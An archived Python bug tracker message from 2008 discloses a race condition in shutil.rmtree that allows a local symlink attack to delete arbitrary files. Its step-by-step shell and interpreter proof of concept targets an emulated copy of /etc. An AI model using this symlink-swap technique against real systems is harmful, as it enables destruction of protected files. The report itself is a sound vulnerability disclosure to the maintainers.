This issue tracker has been migrated to GitHub, and is currently read-only.
For more information, see the GitHub FAQs in the Python's Developer Guide.

Author mrts
Recipients mrts
Date 2008-12-02.15:41:59
SpamBayes Score 1.24307e-07
Marked as misclassified No
Message-id <>
Race condition in the rmtree function in the shutils module allows local
users to delete arbitrary files and directories via a symlink attack.

See also



# emulate removing /etc
$ sudo cp -a /etc /root/etc/
$ sudo python2.6
 >>> for i in xrange(0, 50000):
...      with open("/root/etc/" + str(i), "w") as f:
...             f.write("0")
$ ls /root/etc > orig_list.txt

$ mkdir /tmp/attack
$ cp -a /root/etc/* /tmp/attack

$ sudo python2.6
 >>> from shutil import rmtree
 >>> rmtree('/tmp/attack')
 >>> # press ctrl-z to suspend execution
[1]+  Stopped                 sudo python2.6

$ mv /tmp/attack /tmp/dummy; ln -s /root/etc /tmp/attack
$ fgsudo python2.6
Traceback (most recent call last):
  File "<stdin>", line 1, in <module>
  File "/usr/local/lib/python2.6/", line 225, in rmtree
    onerror(os.rmdir, path, sys.exc_info())
  File "/usr/local/lib/python2.6/", line 223, in rmtree
OSError: [Errno 20] Not a directory: '/tmp/attack'

$ ls/root/etc > new_list.txt
$ diff -q orig_list.txt new_list.txt
Files orig_list.txt and new_list.txt differ


If the attack wasn't successful, /root/etc would not be modified and
orig_list.txt and new_list.txt would be identical.
Date UserAction Args
2008-12-02 15:42:03mrtssetrecipients: + mrts
2008-12-02 15:42:02mrtssetmessageid: <>
2008-12-0215:42:01mrtslinkissue4489 messages2008-12-02 15:41:59mrtscreate